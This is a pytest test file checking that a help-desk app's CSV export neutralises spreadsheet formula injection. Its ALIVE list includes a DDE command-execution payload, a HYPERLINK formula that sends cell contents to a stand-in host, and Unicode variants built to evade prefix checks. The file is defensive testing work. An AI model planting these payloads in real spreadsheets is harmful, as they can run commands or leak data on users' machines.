"""Spreadsheets in which nothing comes alive, and from which the words can be read back (SECURITY R10, IN-07)."""

import csv
import io

import pytest

from ticketdesk.core.cells import LIVE
from ticketdesk.reports.spreadsheet import csv_of

ALIVE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '=HYPERLINK("http://a.example?x="&A1,"click")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
HARMLESS = ["Care", "a=b", "1-2", 'said "so"', "two\nlines", "comma, here", "", "'already", "äöü 木"]


def read(content: bytes) -> list[list[str]]:
    """What a spreadsheet finds in the file."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("words", ALIVE)
def test_no_cell_begins_as_a_formula_does(words: str) -> None:
    cell = read(csv_of(["subject"], [[words]]))[1][0]
    assert not cell.lstrip(" \u00a0\ufeff\u200b").startswith(LIVE)
    assert cell == f"'{words}"


@pytest.mark.parametrize("words", HARMLESS)
def test_everything_else_comes_back_as_it_was(words: str) -> None:
    assert read(csv_of(["subject", "n"], [[words, 1]]))[1] == [words, "1"]


def test_the_head_is_guarded_as_well() -> None:
    assert read(csv_of(["=1+1"], []))[0] == ["'=1+1"]


def test_numbers_stay_numbers_and_nothing_stays_empty() -> None:
    assert read(csv_of(["a", "b", "c"], [[-3, 1.5, None]]))[1] == ["-3", "1.5", ""]


def test_a_lone_surrogate_does_not_break_the_file() -> None:
    assert read(csv_of(["a"], [["\ud83d"]]))[1] == ["?"]
